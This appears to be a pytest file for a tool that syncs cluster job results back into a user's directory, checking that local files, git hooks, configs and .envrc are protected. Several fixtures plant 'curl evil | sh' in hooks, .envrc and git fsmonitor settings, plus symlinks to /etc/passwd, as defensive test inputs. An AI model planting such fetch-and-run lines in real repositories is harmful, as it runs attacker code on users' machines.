"""Syncback's merge: nothing local is lost, conflicts are kept beside."""

import os
import time
from types import SimpleNamespace

import pytest

from womm import tree
from womm.shares import syncback


def write(path, text, mtime=None):
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(text)
    if mtime:
        os.utime(path, (mtime, mtime))


def test_merge_rules(tmp_path):
    local, staging = tmp_path / "dir", tmp_path / "staging"
    t0 = time.time() - 100
    write(local / "unchanged.txt", "same", t0)
    write(local / "result.txt", "old", t0)
    write(local / "edited-both.txt", "base", t0)
    write(local / "keep-deleted.txt", "x", t0)
    write(local / "sub" / "deep.txt", "old", t0)
    snap = syncback.walk(local)

    # During the run: the user edits one file and deletes another; the cluster writes results.
    write(local / "edited-both.txt", "local edit", t0 + 50)
    os.unlink(local / "keep-deleted.txt")
    write(staging / "unchanged.txt", "same", t0)  # as sent: the cluster left it alone
    write(staging / "keep-deleted.txt", "x", t0)  # as sent: stays deleted
    write(staging / "result.txt", "new result", t0 + 60)
    write(staging / "edited-both.txt", "cluster edit", t0 + 60)
    write(staging / "sub" / "deep.txt", "new deep", t0 + 60)
    write(staging / "new" / "out.txt", "created", t0 + 60)

    report = syncback.merge(staging, local, snap, "abcdefgh")
    assert sorted(report["updated"]) == ["result.txt", "sub/deep.txt"]
    assert report["created"] == ["new/out.txt"]
    assert report["conflicts"] == [("edited-both.txt", "edited-both.txt.womm-cluster-abcdefgh")]
    assert (local / "result.txt").read_text() == "new result"
    assert (local / "edited-both.txt").read_text() == "local edit"
    assert (local / "edited-both.txt.womm-cluster-abcdefgh").read_text() == "cluster edit"
    assert (local / "new" / "out.txt").read_text() == "created"
    assert not (local / "keep-deleted.txt").exists()
    assert (local / "unchanged.txt").read_text() == "same"


def test_merge_never_deletes(tmp_path):
    local, staging = tmp_path / "dir", tmp_path / "staging"
    write(local / "a", "a")
    write(local / "b", "b")
    staging.mkdir()
    snap = syncback.walk(local)
    report = syncback.merge(staging, local, snap, "t")
    assert report == {"updated": [], "created": [], "conflicts": [], "refused": [], "protected": [], "failed": []}
    assert sorted(os.listdir(local)) == ["a", "b"]


def test_a_merge_waits_while_a_lazy_server_changes_the_directory(tmp_path):
    # womm.sftp holds this lock on the directory for each change a pod asks for: nothing the merge
    # checked moves before its entry lands.
    import fcntl
    import threading

    local, staging = tmp_path / "dir", tmp_path / "staging"
    local.mkdir()
    snap = syncback.walk(local)
    write(staging / "out.txt", "result")
    server = os.open(local, os.O_RDONLY | os.O_DIRECTORY)
    fcntl.flock(server, fcntl.LOCK_EX)
    reports = []
    merging = threading.Thread(target=lambda: reports.append(syncback.merge(staging, local, snap, "t")))
    merging.start()
    time.sleep(0.5)
    assert not (local / "out.txt").exists() and merging.is_alive()
    os.close(server)  # the lock with it
    merging.join(10)
    assert reports[0]["created"] == ["out.txt"] and (local / "out.txt").read_text() == "result"


def test_a_link_to_elsewhere_is_never_written_through(tmp_path):
    """Run 1 left cfg -> ~/.config (or the user made it); run 2's pods made cfg a directory."""
    local, staging, elsewhere = tmp_path / "dir", tmp_path / "staging", tmp_path / "dot-config"
    elsewhere.mkdir()
    local.mkdir()
    (local / "cfg").symlink_to(elsewhere)
    snap = syncback.walk(local)
    write(staging / "cfg" / "settings", "from the cluster")
    write(staging / "cfg" / "deeper" / "x", "x")
    report = syncback.merge(staging, local, snap, "t1")
    assert list(elsewhere.iterdir()) == []  # nothing written outside the directory
    assert os.readlink(local / "cfg") == str(elsewhere)
    assert (local / "cfg.womm-cluster-t1" / "settings").read_text() == "from the cluster"
    assert (local / "cfg.womm-cluster-t1" / "deeper" / "x").read_text() == "x"
    assert report["conflicts"] == [("cfg", "cfg.womm-cluster-t1")]


def test_links_come_back_as_links_and_never_lead_out(tmp_path):
    local, staging = tmp_path / "dir", tmp_path / "staging"
    local.mkdir()
    write(local / "data.txt", "data")
    snap = syncback.walk(local)
    staging.mkdir()
    (staging / "inside").symlink_to("data.txt")
    (staging / "outside").symlink_to("/etc/passwd")
    (staging / "up").symlink_to("../../x")
    report = syncback.merge(staging, local, snap, "t")
    assert os.readlink(local / "inside") == "data.txt"
    assert not os.path.lexists(local / "outside") and not os.path.lexists(local / "up")
    assert sorted(r for r, _ in report["refused"]) == ["outside", "up"]


def test_a_same_size_edit_with_its_mtime_put_back_is_kept(tmp_path):
    local, staging = tmp_path / "dir", tmp_path / "staging"
    t0 = time.time() - 100
    write(local / "notes.txt", "AAAA", t0)
    snap = syncback.walk(local)
    write(local / "notes.txt", "BBBB", t0)  # same size, same mtime (cp -p, tar): the ctime moved
    write(staging / "notes.txt", "CCCC", t0 + 10)
    report = syncback.merge(staging, local, snap, "t")
    assert (local / "notes.txt").read_text() == "BBBB"
    assert (local / "notes.txt.womm-cluster-t").read_text() == "CCCC"
    assert report["conflicts"] == [("notes.txt", "notes.txt.womm-cluster-t")]


def test_a_local_change_during_the_install_is_kept(tmp_path, monkeypatch):
    local, staging = tmp_path / "dir", tmp_path / "staging"
    t0 = time.time() - 100
    write(local / "big.out", "old", t0)
    snap = syncback.walk(local)
    write(staging / "big.out", "from the cluster", t0 + 10)
    real_copy = syncback.shutil.copyfileobj

    def copy_while_the_user_writes(src, dst, length=0):
        real_copy(src, dst, length)
        (local / "big.out").write_text("written here meanwhile")

    monkeypatch.setattr(syncback.shutil, "copyfileobj", copy_while_the_user_writes)
    report = syncback.merge(staging, local, snap, "t")
    assert (local / "big.out").read_text() == "written here meanwhile"
    assert report["updated"] == []


def test_setuid_bits_never_come_back(tmp_path):
    local, staging = tmp_path / "dir", tmp_path / "staging"
    local.mkdir()
    snap = syncback.walk(local)
    write(staging / "tool", "#!/bin/sh\n")
    os.chmod(staging / "tool", 0o4755)
    syncback.merge(staging, local, snap, "t")
    assert os.stat(local / "tool").st_mode & 0o7777 == 0o755


def test_protected_paths_never_come_back_and_modes_obey_the_umask(tmp_path, monkeypatch):
    """A job rewrote the repository's config and hooks, direnv's file, and a hook's target; made a tool 0777."""
    monkeypatch.setenv("HOME", str(tmp_path / "user-home"))
    monkeypatch.setattr(syncback.protect, "umask", lambda: 0o022)
    local, staging = tmp_path / "dir", tmp_path / "staging"
    t0 = time.time() - 100
    write(local / ".git" / "config", "[core]\n", t0)
    write(local / ".git" / "hooks" / "post-merge", "#!/bin/sh\n", t0)
    write(local / "scripts" / "pre-commit", "#!/bin/sh\necho lint\n", t0)
    (local / ".git" / "hooks" / "pre-commit").symlink_to("../../scripts/pre-commit")
    write(local / ".envrc", "export A=1\n", t0)
    snap = syncback.walk(local)
    write(staging / ".git" / "config", "[core]\n\tfsmonitor = curl evil | sh\n", t0 + 10)
    write(staging / ".git" / "hooks" / "pre-commit.sample", "#!/bin/sh\n", t0 + 10)
    write(staging / ".git" / "hooks" / "post-checkout", "#!/bin/sh\ncurl evil | sh\n", t0 + 10)
    write(staging / "scripts" / "pre-commit", "#!/bin/sh\ncurl evil | sh\n", t0 + 10)
    write(staging / "sub" / ".envrc", "curl evil | sh\n", t0 + 10)
    write(staging / ".envrc", "curl evil | sh\n", t0 + 10)
    write(staging / "tool", "#!/bin/sh\n", t0 + 10)
    os.chmod(staging / "tool", 0o6777)
    write(staging / "results.txt", "42\n", t0 + 10)
    os.chmod(staging / "results.txt", 0o666)
    report = syncback.merge(staging, local, snap, "t")
    assert sorted(report["created"]) == ["results.txt", "tool"]
    assert sorted(r for r, _ in report["protected"]) == [
        ".envrc", ".git/config", ".git/hooks/post-checkout", ".git/hooks/pre-commit.sample", "scripts/pre-commit",
        "sub/.envrc"]
    assert (local / ".git" / "config").read_text() == "[core]\n"
    assert sorted(os.listdir(local / ".git" / "hooks")) == ["post-merge", "pre-commit"]
    assert (local / "scripts" / "pre-commit").read_text() == "#!/bin/sh\necho lint\n"
    assert not (local / "sub" / ".envrc").exists() and (local / ".envrc").read_text() == "export A=1\n"
    assert os.stat(local / "tool").st_mode & 0o7777 == 0o755
    assert os.stat(local / "results.txt").st_mode & 0o7777 == 0o644
    said = []
    syncback.print_report(report, said.append)
    assert sum("not brought back: tools run what is there" in line for line in said) == 1, said
    assert "6 changes under .envrc, .git, scripts/pre-commit, sub/.envrc" in "\n".join(said)


def test_no_directory_git_takes_for_a_repository_comes_back_made_or_changed(tmp_path, monkeypatch):
    """A job made a bare repository (no .git: `cd results` with a git prompt runs its config), completed one with
    the user's HEAD, and wrote into the user's own bare mirror."""
    monkeypatch.setenv("HOME", str(tmp_path / "user-home"))
    local, staging = tmp_path / "dir", tmp_path / "staging"
    t0 = time.time() - 100
    write(local / "mirror.git" / "HEAD", "ref: refs/heads/main\n", t0)
    write(local / "mirror.git" / "config", "[core]\n\tbare = true\n", t0)
    (local / "mirror.git" / "objects").mkdir()
    (local / "mirror.git" / "refs").mkdir()
    write(local / "half" / "HEAD", "ref: refs/heads/main\n", t0)
    (local / "half" / "objects").mkdir()
    snap = syncback.walk(local)
    write(staging / "results" / "HEAD", "ref: refs/heads/main\n", t0 + 10)
    write(staging / "results" / "config", "[core]\n\tfsmonitor = curl evil | sh\n", t0 + 10)
    (staging / "results" / "objects").mkdir(parents=True)
    (staging / "results" / "refs").mkdir()
    write(staging / "results" / "out.txt", "42\n", t0 + 10)
    write(staging / "wt" / "HEAD", "ref: refs/heads/main\n", t0 + 10)
    write(staging / "wt" / "commondir", "../mirror.git\n", t0 + 10)
    (staging / "half" / "refs").mkdir(parents=True)
    write(staging / "mirror.git" / "hooks" / "post-update", "#!/bin/sh\ncurl evil | sh\n", t0 + 10)
    write(staging / "mirror.git" / "config", "[core]\n\tfsmonitor = curl evil | sh\n", t0 + 10)
    write(staging / "objects" / "mesh.obj", "v 0 0 0\n", t0 + 10)  # the names alone are anyone's
    write(staging / "refs" / "paper.bib", "@book{}\n", t0 + 10)
    # Beside a local file, where the cluster's entries land renamed: a HEAD sent there directly is refused
    # (it would join what comes under notes.txt/), and a set that lands there together is a set.
    write(local / "notes.txt", "mine\n", t0)
    write(local / "todo.txt", "mine\n", t0)
    snap = syncback.walk(local)
    write(staging / "notes.txt.womm-cluster-t" / "HEAD", "ref: refs/heads/main\n", t0 + 10)
    write(staging / "notes.txt" / "config", "[core]\n\tfsmonitor = curl evil | sh\n", t0 + 10)
    (staging / "notes.txt" / "objects").mkdir()
    (staging / "notes.txt" / "refs").mkdir()
    write(staging / "todo.txt" / "HEAD", "ref: refs/heads/main\n", t0 + 10)
    (staging / "todo.txt" / "objects").mkdir()
    (staging / "todo.txt" / "refs").mkdir()
    report = syncback.merge(staging, local, snap, "t")
    assert sorted(report["created"]) == ["objects/mesh.obj", "refs/paper.bib"]
    assert report["refused"] == [(rel, "a name this merge gives conflicting copies (.womm-cluster-t)")
                                 for rel in ("notes.txt.womm-cluster-t", "notes.txt.womm-cluster-t/HEAD")]
    assert sorted(report["protected"]) == [
        ("half/refs", "half"), ("mirror.git/config", "mirror.git"), ("mirror.git/hooks", "mirror.git"),
        ("mirror.git/hooks/post-update", "mirror.git"), ("results", "results"), ("results/HEAD", "results"),
        ("results/config", "results"), ("results/objects", "results"), ("results/out.txt", "results"),
        ("results/refs", "results"), ("todo.txt", "todo.txt"), ("todo.txt/HEAD", "todo.txt.womm-cluster-t"),
        ("todo.txt/objects", "todo.txt.womm-cluster-t"), ("todo.txt/refs", "todo.txt.womm-cluster-t"),
        ("wt", "wt"), ("wt/HEAD", "wt"), ("wt/commondir", "wt")]
    assert sorted(os.listdir(local / "mirror.git")) == ["HEAD", "config", "objects", "refs"]
    assert (local / "mirror.git" / "config").read_text() == "[core]\n\tbare = true\n"
    assert sorted(os.listdir(local / "half")) == ["HEAD", "objects"]
    assert not (local / "results").exists() and not (local / "wt").exists()
    assert sorted(os.listdir(local / "notes.txt.womm-cluster-t")) == ["config", "objects", "refs"]  # no HEAD
    assert not (local / "todo.txt.womm-cluster-t").exists()
    said = []
    syncback.print_report(report, said.append)
    assert "17 changes under half, mirror.git, results, todo.txt, todo.txt.womm-cluster-t, wt not brought back" in "\n".join(said)


def test_a_link_through_a_symlink_is_not_made(tmp_path):
    """results.txt -> a/b/c/S/../outside-secret with S a symlink: as text it stays inside; the kernel goes out."""
    local, staging = tmp_path / "dir", tmp_path / "staging"
    (local / "a" / "b" / "c").mkdir(parents=True)
    (local / "a" / "b" / "c" / "S").symlink_to(tmp_path / "far" / "away")
    snap = syncback.walk(local)
    staging.mkdir()
    (staging / "results.txt").symlink_to("a/b/c/S/../outside-secret")
    (staging / "via-link").symlink_to("a/b/c/S/file")
    (staging / "up-then-in").symlink_to("a/b/../../x")  # a .. after a name: refused too
    (staging / "made-later").symlink_to("z/T/../../..")  # z/T comes in this same merge
    (staging / "z").mkdir()
    (staging / "z" / "T").symlink_to("..")  # inside by itself
    (staging / "fine").symlink_to("a/b/c")
    (staging / "a" / "b").mkdir(parents=True)
    (staging / "a" / "b" / "up").symlink_to("../../a/b/c")
    report = syncback.merge(staging, local, snap, "t")
    refused = dict(report["refused"])
    assert sorted(refused) == ["made-later", "results.txt", "up-then-in", "via-link"], report
    assert "a/b/c/S" in refused["results.txt"] and "a/b/c/S" in refused["via-link"]
    assert os.readlink(local / "fine") == "a/b/c" and os.readlink(local / "a" / "b" / "up") == "../../a/b/c"
    assert os.readlink(local / "z" / "T") == ".."
    assert not any(os.path.lexists(local / n) for n in refused)


def test_an_entry_that_fails_is_reported_and_the_rest_come_back(tmp_path):
    """A local edit to a file whose name leaves no room for its conflict copy's suffix."""
    local, staging = tmp_path / "dir", tmp_path / "staging"
    t0 = time.time() - 100
    long = "n" * 250
    write(local / long, "base", t0)
    snap = syncback.walk(local)
    write(local / long, "edited here", t0 + 5)
    write(staging / long, "from the cluster", t0 + 10)
    for name in ("a.txt", "z.txt", "sub/y.txt"):
        write(staging / name, name, t0 + 10)
    report = syncback.merge(staging, local, snap, "t")
    assert [rel for rel, _ in report["failed"]] == [long]
    assert "too long" in report["failed"][0][1]
    assert sorted(report["created"]) == ["a.txt", "sub/y.txt", "z.txt"]
    assert (local / long).read_text() == "edited here"
    assert not [n for n in os.listdir(local) if n.startswith(".womm-sync")]


def deep(top, levels):
    """top/d/d/.../d (levels of them), with a file at the bottom; made without recursion."""
    os.makedirs(top, exist_ok=True)
    fd = os.open(top, os.O_RDONLY | os.O_DIRECTORY)
    for _ in range(levels):
        os.mkdir("d", dir_fd=fd)
        nxt = os.open("d", os.O_RDONLY | os.O_DIRECTORY, dir_fd=fd)
        os.close(fd)
        fd = nxt
    os.close(os.open("bottom", os.O_WRONLY | os.O_CREAT, 0o644, dir_fd=fd))
    os.close(fd)


@pytest.mark.slow
def test_a_tree_a_thousand_levels_deep(tmp_path, monkeypatch):
    """The snapshot, the merge and the staging's clean-up, whatever the depth (os.walk and shutil.rmtree recurse)."""
    monkeypatch.setattr(syncback.home, "run_dir", lambda task_id: tmp_path / "run" / task_id)
    monkeypatch.setattr(syncback.home, "snapshot_file", lambda task_id: tmp_path / "run" / task_id / "snap.json")
    local, staging = tmp_path / "dir", tmp_path / "run" / "t" / "syncback"
    try:
        a_thousand_levels(local, staging, monkeypatch)
    finally:  # pytest's own clean-up of old temporary directories recurses: leave it nothing deep
        tree.rmtree(local)
        tree.rmtree(staging)


def a_thousand_levels(local, staging, monkeypatch):
    deep(local, 1000)
    syncback.save_snapshot("t", local)
    snap = syncback.load_snapshot("t")
    assert len(snap) == 1001
    deep(staging, 1000)
    write(staging / "zz-after.txt", "after")
    report = syncback.merge(staging, local, snap, "t")
    assert report["created"] == ["zz-after.txt"] and not report["failed"]

    class Server:
        pod = "p"

        def rsync_options(self):
            return ["-e", "true"]

    monkeypatch.setattr(syncback.subprocess, "run", lambda *a, **k: type("P", (), {"returncode": 0, "stderr": ""}))
    monkeypatch.setattr(syncback, "merge", lambda staging, *a: deep(staging, 1000) or {})
    syncback.pull(Server(), "s", SimpleNamespace(id="t"), str(local))  # its staging, 1000 deep, removed after
    assert not staging.exists()


def test_a_merge_that_stopped_can_be_run_again(tmp_path, monkeypatch):
    local, staging = tmp_path / "dir", tmp_path / "staging"
    t0 = time.time() - 100
    for i in range(6):
        write(local / f"r{i}.txt", "old", t0)
    snap = syncback.walk(local)
    for i in range(6):
        write(staging / f"r{i}.txt", f"new {i}", t0 + 10)
    write(staging / "link", "x")
    os.unlink(staging / "link")
    (staging / "link").symlink_to("r0.txt")
    real_install, calls = syncback._install, []

    def stop_at_the_fourth(*args, **kwargs):
        calls.append(args[2])
        if len(calls) == 4:
            raise KeyboardInterrupt  # Ctrl-C, a crash, a full disk: anything
        return real_install(*args, **kwargs)

    monkeypatch.setattr(syncback, "_install", stop_at_the_fourth)
    with pytest.raises(KeyboardInterrupt):
        syncback.merge(staging, local, snap, "t")
    monkeypatch.setattr(syncback, "_install", real_install)
    report = syncback.merge(staging, local, snap, "t")
    assert report["conflicts"] == [] and report["failed"] == []
    assert sorted(report["updated"]) == ["r2.txt", "r3.txt", "r4.txt", "r5.txt"]  # link, r0, r1: the first run's
    assert report["created"] == []
    assert [(local / f"r{i}.txt").read_text() for i in range(6)] == [f"new {i}" for i in range(6)]
    assert os.readlink(local / "link") == "r0.txt"
    assert not [n for n in os.listdir(local) if "womm" in n]


def test_symlinks_the_share_server_munged_come_back_as_the_pods_made_them(tmp_path):
    from womm.shares import syncback

    staging = tmp_path / "staging"
    (staging / "d").mkdir(parents=True)
    os.symlink("/rsyncd-munged/a.txt", staging / "d" / "l")
    os.symlink("plain", staging / "p")
    syncback.unmunge(str(staging))
    assert os.readlink(staging / "d" / "l") == "a.txt" and os.readlink(staging / "p") == "plain"


@pytest.mark.parametrize("config", [
    "[core]\n\trepositoryformatversion = 0\n[core]\n\thooksPath = tools/git-hooks\n",
    '[CORE]\n    HooksPath = "tools/git-hooks"  # as written by a setup script\n',
])
def test_the_hooks_directory_the_repository_names_never_comes_back(tmp_path, monkeypatch, config):
    """core.hooksPath in the directory (as husky and others set it): git runs what is there on commit."""
    monkeypatch.setenv("HOME", str(tmp_path / "user-home"))
    local, staging = tmp_path / "dir", tmp_path / "staging"
    t0 = time.time() - 100
    write(local / ".git" / "config", config, t0)
    write(local / "tools" / "git-hooks" / "pre-commit", "#!/bin/sh\necho lint\n", t0)
    snap = syncback.walk(local)
    write(staging / "tools" / "git-hooks" / "pre-commit", "#!/bin/sh\ncurl evil | sh\n", t0 + 10)
    write(staging / "tools" / "git-hooks" / "post-checkout", "#!/bin/sh\ncurl evil | sh\n", t0 + 10)
    write(staging / "tools" / "other.txt", "fine\n", t0 + 10)
    report = syncback.merge(staging, local, snap, "t")
    assert report["created"] == ["tools/other.txt"]
    assert sorted(r for r, _ in report["protected"]) == ["tools/git-hooks/post-checkout", "tools/git-hooks/pre-commit"]
    assert (local / "tools" / "git-hooks" / "pre-commit").read_text() == "#!/bin/sh\necho lint\n"


def test_what_a_repositorys_config_names_in_the_directory_is_protected_for_a_worktree_too(tmp_path):
    from womm import protect

    main, tree = tmp_path / "main", tmp_path / "wt"
    write(main / ".git" / "config", '[core]\n\thooksPath = hooks\n[include]\n\tpath = ../../wt/team.gitconfig\n'
                                    '[includeIf "gitdir:~/work/"]\n\tpath = /etc/elsewhere\n')
    write(main / ".git" / "worktrees" / "wt" / "commondir", "../..\n")
    write(tree / ".git", f"gitdir: {main}/.git/worktrees/wt\n")
    (tree / "sub").mkdir()
    assert protect.git_doors(tree) == ["hooks", "team.gitconfig"]
    assert "team.gitconfig" in protect.protected(tree)
    assert protect.git_doors(tree / "sub") == []  # tree/hooks is outside tree/sub
    write(main / ".git" / "config", "[core]\n\thooksPath = /etc/hooks\n")
    assert protect.git_doors(main) == []
    assert protect.git_doors(tmp_path / "elsewhere-without-git") == []
